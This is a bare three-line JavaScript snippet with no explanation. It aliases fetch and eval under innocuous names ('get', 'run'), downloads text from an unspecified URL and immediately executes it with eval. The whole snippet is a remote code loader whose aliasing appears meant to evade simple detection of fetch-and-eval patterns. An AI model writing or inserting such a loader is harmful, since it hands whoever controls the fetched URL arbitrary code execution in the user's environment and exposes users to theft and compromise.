const get = fetch, run = eval;
async function go() { const res = await get(url); const body = await res.text(); run(body); }
go();
